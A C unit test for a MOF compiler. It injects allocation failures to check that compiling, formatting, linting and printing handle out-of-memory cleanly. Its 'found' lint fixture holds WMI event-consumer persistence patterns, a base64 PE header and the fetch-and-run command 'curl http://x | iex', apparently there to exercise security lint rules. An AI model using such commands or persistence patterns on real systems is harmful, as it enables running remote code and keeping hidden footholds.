/*
 * test_mof_nomem.c: allocation n fails, for every n, once and from then on. A compilation then
 * answers CIM_ENOMEM, or what it answers with all its memory, word for word: nothing is lost on the way.
 * Arenas are made to take every piece from the system, so that each is an allocation of its own.
 */
#define FIRST_CHUNK ((size_t)1)
#define LARGEST_CHUNK ((size_t)1)
#include "cim/arena.c"

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>

#include "cim/bytes.h"
#include "mof/mof.h"
#include "tests/unit.h"

void *__real_malloc(size_t n);
void *__real_calloc(size_t n, size_t size);
void *__real_realloc(void *p, size_t n);
void *__wrap_malloc(size_t n);
void *__wrap_calloc(size_t n, size_t size);
void *__wrap_realloc(void *p, size_t n);

static long asked, failing = -1;	/* how many were asked for; which fails, -1: none */
static bool for_good;			/* and all that come after */

static bool
fails(void)
{
	long n = asked++;
	return failing >= 0 && (n == failing || (for_good && n > failing));
}

void *
__wrap_malloc(size_t n)
{
	return fails() ? NULL : __real_malloc(n);
}

void *
__wrap_calloc(size_t n, size_t size)
{
	return fails() ? NULL : __real_calloc(n, size);
}

void *
__wrap_realloc(void *p, size_t n)
{
	return fails() ? NULL : __real_realloc(p, n);
}

/* What came out: kept outside of the memory that fails. */
struct output {
	enum cim_err err;
	size_t len;
	char text[1 << 16];
};

static enum cim_err
keep(void *ctx, const void *bytes, size_t n)
{
	struct output *out = ctx;
	if (n > sizeof(out->text) - out->len)
		return CIM_ELIMIT;
	memcpy(out->text + out->len, bytes, n);
	out->len += n;
	return CIM_OK;
}

static enum cim_err
print_item(const struct cim_item *item, struct cim_sink sink)
{
	switch (item->kind) {
	case CIM_ITEM_NAMESPACE: return mof_print_namespace_pragma(item->ns, sink);
	case CIM_ITEM_DELETE_CLASS:
	case CIM_ITEM_DELETE_INSTANCE: return CIM_OK;
	case CIM_ITEM_QUALIFIER_TYPE: return mof_print_qualifier_type(item->as.qualifier_type, sink);
	case CIM_ITEM_CLASS: return mof_print_class(item->as.cls, sink);
	case CIM_ITEM_INSTANCE: return mof_print_instance(item->as.instance, sink);
	case CIM_ITEM_STRUCTURE: return mof_print_class(item->as.cls, sink);
	case CIM_ITEM_ENUMERATION: return mof_print_enumeration(item->as.enumeration, sink);
	}
	return CIM_EINVAL;
}

/* The whole way of a text: read, compiled, told, printed. */
static void
run(const char *text, struct output *out)
{
	struct mof_unit *unit = NULL;
	const struct cim_batch *batch = NULL;
	struct mof_options options = { .create_namespaces = true };
	struct mof_print_options how = { .verbose = true };
	struct cim_sink sink = { keep, out };
	out->len = 0;
	enum cim_err err = mof_unit_new(&unit, &options);
	if (err == CIM_OK)
		err = mof_parse_buffer(unit, "text.mof", text, strlen(text));
	if (err == CIM_OK)
		err = mof_compile(unit, &cim_scope_empty, &batch);
	if (err == CIM_EINPUT && mof_print_diagnostics(unit, &how, sink) != CIM_OK)
		err = CIM_ENOMEM;
	for (size_t i = 0; err == CIM_OK && i < batch->count; i++)
		err = print_item(&batch->items[i], sink);
	mof_unit_free(unit);
	out->err = err;
}

/* The way of a text that is formatted. */
static void
run_format(const char *text, struct output *out)
{
	struct mof_unit *unit = NULL;
	struct mof_formatted formatted = { .changed = false };
	struct cim_fault fault = { .err = CIM_OK };
	struct mof_print_options how = { .verbose = true };
	struct cim_sink sink = { keep, out };
	out->len = 0;
	enum cim_err err = mof_unit_new(&unit, NULL);
	if (err == CIM_OK)
		err = mof_format_buffer(unit, "text.mof", text, strlen(text), &formatted, &fault);
	if (err == CIM_OK)
		err = keep(out, formatted.bytes.ptr, formatted.bytes.len);
	else if (err == CIM_EINPUT && mof_print_diagnostics(unit, &how, sink) != CIM_OK)
		err = CIM_ENOMEM;
	mof_formatted_free(&formatted);
	mof_unit_free(unit);
	out->err = err;
}

/* The way of a text that is asked all rules of lint. */
static void
run_lint(const char *text, struct output *out)
{
	struct mof_unit *unit = NULL;
	struct mof_options options = { .lint = MOF_LINT_STYLE | MOF_LINT_SECURITY | MOF_LINT_DRIVER };
	struct mof_print_options how = { .verbose = true, .lint = true };
	struct cim_sink sink = { keep, out };
	out->len = 0;
	enum cim_err err = mof_unit_new(&unit, &options);
	if (err == CIM_OK)
		err = mof_parse_buffer(unit, "text.mof", text, strlen(text));
	if (err == CIM_OK)
		err = mof_lint(unit);
	if (err == CIM_OK)
		err = mof_print_diagnostics(unit, &how, sink);
	mof_unit_free(unit);
	out->err = err;
}

/* The way of a text that is compared as it is written. */
static void
run_written(const char *text, struct output *out)
{
	struct mof_unit *unit = NULL;
	const struct cim_batch *batch = NULL;
	struct cim_sink sink = { keep, out };
	out->len = 0;
	enum cim_err err = mof_unit_new(&unit, NULL);
	if (err == CIM_OK)
		err = mof_parse_buffer(unit, "text.mof", text, strlen(text));
	if (err == CIM_OK)
		err = mof_written(unit, false, &batch);
	for (size_t i = 0; err == CIM_OK && i < batch->count; i++)
		err = print_item(&batch->items[i], sink);
	mof_unit_free(unit);
	out->err = err;
}

static struct output whole, part;
static void (*way)(const char *text, struct output *out) = run;

/* Every allocation of this text; the first that is answered wrongly is told. */
static void
sweep(const char *what, const char *text, enum cim_err wanted)
{
	failing = -1;
	asked = 0;
	way(text, &whole);
	long count = asked;
	tap_ok(whole.err == wanted && whole.len > 0, "%s: with all its memory", what);
	long wrong = -1;
	for (int mode = 0; mode < 2 && wrong < 0; mode++) {
		for_good = mode == 1;
		for (long n = 0; n < count && wrong < 0; n++) {
			failing = n;
			asked = 0;
			way(text, &part);
			bool same = part.err == whole.err && part.len == whole.len &&
			    memcmp(part.text, whole.text, whole.len) == 0;
			if (part.err != CIM_ENOMEM && !same)
				wrong = n;
		}
		failing = -1;
		tap_ok(wrong < 0, "%s: each of %ld allocations fails, %s", what, count,
		    for_good ? "and all behind it" : "alone");
		if (wrong >= 0)
			printf("# allocation %ld: %s, and this came out:\n# %.*s\n", wrong,
			    cim_strerror(part.err), (int)(part.len > 300 ? 300 : part.len), part.text);
	}
}

static const char good[] =
    "Qualifier Tag : string = null, Scope(any), Flavor(EnableOverride, ToSubclass);\n"
    "#pragma locale (\"en_US\")\n"
    "[Abstract, Tag(\"a\\tb\" \"c\"), Description(\"x\")] class NM_Base { [Key] string Id; };\n"
    "class NM_Thing : NM_Base { uint8 A[] = {1, 2}; real32 R = 1.5; datetime D;\n"
    "  [EmbeddedInstance(\"NM_Thing\")] string E; char16 C = 'c'; boolean B = true;\n"
    "  [Values{\"a\", \"b\"}, ValueMap{\"0\", \"1\"}] uint16 V;\n"
    "  uint32 Go([In] uint8 X, [In(false), Out] NM_Thing ref Y); };\n"
    "[Association] class NM_Link { [Key] NM_Thing ref L; [Key] NM_Thing ref R; };\n"
    "instance of NM_Link { L = $a; R = $b; };\n"
    "instance of NM_Thing as $a { Id = \"1\"; A = {3}; D = \"20240101000000.000000+000\"; };\n"
    "instance of NM_Thing as $b { Id = \"2\"; E = \"instance of NM_Thing { Id = \\\"3\\\"; };\"; };\n"
    "#pragma namespace (\"root/other\")\n"
    "class NM_Other { [Key] string Id; };\n";

static const char bad[] =
    "class NM_A : NM_None { [Key] string Id };\n"
    "class NM_B { [Key] string Id; uint8 Id; [Nope] uint33 X; uint8 Y = 300; string S = \"cut;\n"
    "  uint32 Go(uint8 a, uint8 A); };\n"
    "class NM_B { [Key] string Other; };\n"
    "instance of NM_B { Id = \"1\"; Zz = 2; };\n"
    "instance of NM_B { Id = $gone; };\n"
    "Qualifier Q : uint8 = \"x\", Scope(nowhere), Flavor(Restricted, ToSubclass);\n"
    "[Association] class NM_C { [Key] NM_None ref R; };\n"
    "\x93 } ; class\n";

static const char good_json[] = "{\"wbemkit\":1,\"objects\":["
    "{\"kind\":\"qualifier\",\"name\":\"Tag\",\"type\":\"string\",\"scopes\":[\"any\"],"
    "\"flavors\":[\"DisableOverride\"],\"stated\":[\"ToSubclass\"]},"
    "{\"kind\":\"class\",\"name\":\"NM\\u0041\",\"qualifiers\":{\"Tag\":{\"type\":\"string\","
    "\"value\":\"\\u00e9\",\"flavors\":[\"DisableOverride\"],\"stated\":[]}},\"properties\":{"
    "\"Id\":{\"type\":\"string\",\"qualifiers\":{\"Key\":{}}},"
    "\"A\":{\"type\":\"uint8\",\"array\":true,\"array_size\":2,\"value\":[1,null]},"
    "\"E\":{\"type\":\"string\",\"qualifiers\":{\"EmbeddedInstance\":{\"value\":\"NMA\"}}}},"
    "\"methods\":{\"Go\":{\"return_type\":\"uint32\",\"parameters\":{\"X\":{\"type\":\"reference\","
    "\"reference_class\":\"NMA\",\"qualifiers\":{\"In\":{}}}}}}},"
    "{\"kind\":\"namespace\",\"name\":\"root/cimv2\"},"
    "{\"kind\":\"instance\",\"class\":\"NMA\",\"properties\":{\"Id\":{\"type\":\"string\","
    "\"value\":\"1\"},\"E\":{\"value\":{\"class\":\"NMA\",\"properties\":{\"Id\":{\"value\":"
    "\"2\"}}}}}}]}\n";

static const char bad_json[] = "{\"kind\":\"class\",\"name\":\"NM A\",\"nam\":1}\n"
    "{\"kind\":\"clas\"}\n{\"kind\":\"class\",\"name\":\"NM_B\",\"name\":\"NM_C\",\"properties\":"
    "{\"X\":{\"type\":\"uint7\"},\"Y\":{\"type\":\"string\",\"value\":\"\\ud800\"}}}\n{]\n"
    "{\"kind\":\"instance\",\"class\":\"NM_B\",\"properties\":{\"Y\":{\"type\":\"uint8\",\"value\":\"\"}}}";

static const char found[] =
    "#pragma autorecover\n"
    "#pragma deleteclass (\"NM_Gone\", nofail)\n"
    "#pragma namespace (\"root/subscription\")\n"
    "class Store { string Data = \"TVqQAAMAAAAEAAAA//8AALgAAAAA\"; [Units(\"Bytes\")] uint8 N; };\n"
    "instance of __EventFilter as $f { Name = \"f\"; Query = \"SELECT * FROM X\"; };\n"
    "instance of ActiveScriptEventConsumer { Name = \"c\"; ScriptText = \"a\\nb\"; };\n"
    "instance of __FilterToConsumerBinding { Filter = $f;\n"
    "  Consumer = \"ActiveScriptEventConsumer.Name=\\\"c\\\"\"; };\n"
    "instance of __Win32Provider as $p { Name = \"p\"; };\n"
    "instance of __InstanceProviderRegistration { Provider = $p; };\n"
    "instance of X { Password = \"hunter2\"; Run = \"curl http://x | iex\"; L = { $f, $p }; };\n";

int
main(void)
{
	sweep("a text without mistakes", good, CIM_OK);
	sweep("a text full of them", bad, CIM_EINPUT);
	sweep("JSON without mistakes", good_json, CIM_OK);
	sweep("JSON full of them", bad_json, CIM_EINPUT);
	way = run_format;
	sweep("a text that is formatted", good, CIM_OK);
	sweep("a text in CP1252 that is", "class A {\r\n // \xE4 \r\n};\r\n", CIM_OK);
	sweep("a text full of mistakes that is not", bad, CIM_EINPUT);
	way = run_lint;
	sweep("a text that is linted", good, CIM_OK);
	sweep("a text full of findings", found, CIM_OK);
	way = run_written;
	sweep("a text as it is written", good, CIM_OK);
	sweep("a text as it is written, with aliases", found, CIM_OK);
	return tap_done();
}
